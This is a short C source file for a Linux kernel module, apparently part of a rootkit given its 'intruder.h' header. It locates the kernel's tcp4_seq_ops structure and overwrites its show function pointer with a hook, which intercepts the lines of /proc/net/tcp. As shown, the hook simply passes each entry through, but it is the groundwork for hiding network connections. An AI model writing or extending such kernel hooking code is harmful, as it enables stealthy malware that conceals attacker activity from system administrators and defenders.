/* Intercepts the lines of /proc/net/tcp. */
#include "intruder.h"
#include <linux/seq_file.h>

static int (*original)(struct seq_file *, void *);

static int hook(struct seq_file *file, void *entry) {
    return original(file, entry);
}

static int __init begin(void) {
    struct seq_operations *operations = (struct seq_operations *)find("tcp4_seq_ops");
    void *here = hook;
    if (!operations) {
        return -ENOENT;
    }
    original = operations->show;
    return overwrite((unsigned long)&operations->show, &here, sizeof here);
}
module_init(begin);
